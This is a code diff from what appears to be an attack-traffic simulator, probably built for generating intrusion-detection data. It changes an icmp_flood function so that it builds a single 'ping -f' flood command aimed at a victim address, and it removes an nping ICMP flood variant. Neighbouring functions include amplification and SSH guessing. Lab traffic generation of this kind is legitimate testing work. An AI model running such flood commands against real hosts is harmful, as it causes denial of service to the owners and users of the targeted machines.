@@ -59,12 +59,8 @@ def amplification(plan: Plan, host: Host, numbers: random.Random) -> list[Comman
 
 
 def icmp_flood(plan: Plan, host: Host, numbers: random.Random) -> list[Command]:
-    """ping -f waits for answers, and is slow on a busy machine; nping is not."""
-    rate = numbers.choice((400, 1200, 4000))
-    size, target = str(numbers.choice((32, 300, 1200))), one_victim(plan, numbers)[-1]
-    return [Command(0.3, ("ping", "-n", "-q", "-f", "-c", str(min(plan.packets // 4, 4000)), "-s", size, target), 4),
-            Command(0.3, (*NPING, "--icmp", "--rate", str(rate), "-c", str(min(plan.packets // 4, rate * 2)), "--data-length", size,
-                          str(plan.victim.address)), 6)]
+    return [Command(0.3, ("ping", "-n", "-q", "-f", "-c", str(min(plan.packets // 2, 4000)), "-s", str(numbers.choice((32, 300, 1200))),
+                          one_victim(plan, numbers)[-1]), 12)]
 
 
 def guess_ssh(plan: Plan, host: Host, numbers: random.Random) -> list[Command]:
